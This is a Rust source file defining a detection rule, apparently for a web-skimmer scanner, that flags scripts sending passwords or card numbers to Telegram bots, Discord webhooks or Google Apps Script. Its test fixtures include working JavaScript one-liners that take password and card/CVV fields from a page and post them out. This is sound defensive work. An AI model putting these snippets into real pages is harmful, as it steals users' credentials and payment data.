//! `secret-to-drop-box`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-to-drop-box",
    description: "The script sends passwords, codes or card numbers to a public drop box or a chat bot.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::SecretToDropBox])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var p=document.getElementById('password').value;fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Pass: '+p})})",
            "const d=Object.fromEntries(new FormData(f));const m=`Card: ${d.cardNumber} ${d.cvv}`;fetch(`https://c.example/bot${t}/sendMessage`,{method:'POST',body:JSON.stringify({chat_id:i,text:m})})",
            "const q=new URLSearchParams({mail:u.value,pass:document.getElementById('password').value});fetch(`https://script.google.com/macros/s/a/exec?${q}`)",
            "x=new XMLHttpRequest;x.open('POST','https://discord.com/api/webhooks/1/a');x.send(JSON.stringify({content:'Password: '+document.forms[0].password.value}))",
        ],
        without: &[
            "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
            "window.open('https://t.me/share/url?url='+encodeURIComponent(location.href))",
            "fetch('/api/login',{method:'POST',body:JSON.stringify({email:m.value,password:p.value})})",
            "fetch('https://app.workers.dev/login',{method:'POST',body:JSON.stringify({email:m.value,password:p.value})})",
            "fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Name: '+n.value+' Phone: '+p.value})})",
        ],
    },
};
